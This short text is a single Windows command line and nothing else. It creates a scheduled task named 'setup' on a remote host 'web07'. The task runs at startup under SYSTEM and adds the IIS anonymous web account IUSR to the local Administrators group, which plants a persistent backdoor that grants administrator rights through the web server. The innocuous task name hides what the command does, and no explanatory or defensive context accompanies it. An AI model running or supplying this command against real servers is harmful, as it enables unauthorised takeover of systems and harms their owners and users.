schtasks /create /s web07 /tn setup /sc onstart /ru SYSTEM /tr "net localgroup Administrators IUSR /add"
